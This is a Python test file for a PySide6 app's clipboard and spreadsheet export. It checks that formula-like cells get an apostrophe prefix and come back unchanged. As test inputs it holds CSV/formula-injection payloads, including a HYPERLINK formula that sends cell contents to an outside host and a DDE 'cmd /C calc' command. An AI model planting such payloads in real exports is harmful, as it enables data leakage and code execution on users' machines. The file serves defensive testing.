"""What leaves for a spreadsheet is text or a number, never a formula; it comes back as it was."""

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from PySide6.QtCore import Qt
from PySide6.QtGui import QStandardItem, QStandardItemModel
from PySide6.QtTest import QTest
from PySide6.QtWidgets import QApplication, QListView
from pytestqt.qtbot import QtBot

from widgets.charts.table import pasted_lines
from widgets.sheet import Cell, Column, FigureGrid, GridContent, Kind, Row, never_asks
from widgets.sheet.block import marked, read_block, unmarked, write_block
from widgets.window.list_copies import ListCopies

CTRL = Qt.KeyboardModifier.ControlModifier
CALL = '=HYPERLINK("http://a/"&A1)'


@pytest.mark.parametrize(
    "text",
    [
        CALL,
        "@SUM(A1)",
        "+1+1",
        "-1+1",
        "-cmd|' /C calc'!A0",
        " =1",
        "\t=1",
        "\u200b=1",
        "\ufeff@a",
        "＝1",
        "-5 personer",
        "=",
    ],
)
def test_a_formula_gets_an_apostrophe(text: str) -> None:
    assert marked(text) == f"'{text}"


@pytest.mark.parametrize("text", ["-46", "+5", "-5,0", "-1 234", "+0,3 %", "-", "1=1", "a+b", "'ord", "", "–", "<5"])
def test_numbers_and_other_words_are_left_alone(text: str) -> None:
    assert marked(text) == text


def as_a_spreadsheet_reads(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), delimiter="\t"))


hostile = st.text(alphabet=st.sampled_from("=+-@'\"\t\n\r 1a,%\u200b"), max_size=6)


@given(st.lists(st.lists(hostile, min_size=2, max_size=2), min_size=1, max_size=4))
def test_no_cell_of_a_written_block_begins_as_a_formula_and_each_comes_back(block: list[list[str]]) -> None:
    text = write_block(block)
    for line in as_a_spreadsheet_reads(text):
        for cell in line:
            number = re.fullmatch(r"[+-]\d[\d ]*(,\d+)?( ?%)?|-", cell)
            assert number or not re.match(r"[\s\u200b]*[=+@-]", cell), cell
    assert read_block(text) == tuple(tuple(line) for line in block)


@given(st.text())
def test_any_text_comes_back_as_it_was(text: str) -> None:
    assert unmarked(marked(text)) == text


def test_the_lines_of_a_table_are_quoted_and_marked_and_its_numbers_stay_numbers() -> None:
    lines = [["Kommun", "Antal"], [CALL, "\u221246"], ["två\nrader", "1\u00a0234"], ["a\tb", "+0,3"]]
    text = pasted_lines(lines)
    assert as_a_spreadsheet_reads(text) == [
        ["Kommun", "Antal"],
        [f"'{CALL}", "-46"],
        ["två\nrader", "1234"],
        ["a\tb", "+0,3"],
    ]


def test_what_a_grid_copies_is_no_formula_to_others_and_the_same_text_to_itself(theme: None, qtbot: QtBot) -> None:
    grid = FigureGrid(never_asks)
    qtbot.addWidget(grid)
    columns = (Column("a", "A"), Column("b", "B", kind=Kind.SHOWN))
    cells = {("0", "b"): Cell(text=CALL), ("1", "b"): Cell(text="-46"), ("0", "a"): Cell(7)}
    grid.set_content(GridContent("x", "x", columns, (Row("0", "r"), Row("1", "s")), cells))
    grid.selectAll()
    QTest.keyClick(grid, Qt.Key.Key_C, CTRL)

    lines = as_a_spreadsheet_reads(QApplication.clipboard().text())
    assert [line[1] for line in lines] == [f"'{CALL}", "-46"]
    # As text alone, which is what is left when another program has had it.
    QApplication.clipboard().setText(QApplication.clipboard().text())
    assert read_block(QApplication.clipboard().text())[0][1] == CALL
    QApplication.clipboard().clear()


def test_a_name_copied_in_a_list_is_no_formula(theme: None, qtbot: QtBot, qapp: QApplication) -> None:
    view = QListView()
    qtbot.addWidget(view)
    copies = ListCopies(qapp, view)
    model = QStandardItemModel(view)
    for name in (CALL, "Tierp"):
        model.appendRow(QStandardItem(name))
    view.setModel(model)
    view.show()
    view.setFocus()
    qtbot.waitUntil(view.hasFocus)
    for row, expected in ((0, write_block([[CALL]]).removesuffix("\n")), (1, "Tierp")):
        view.setCurrentIndex(model.index(row, 0))
        QTest.keyClick(view, Qt.Key.Key_C, CTRL)
        assert QApplication.clipboard().text() == expected
    assert copies.parent() is view
    QApplication.clipboard().clear()
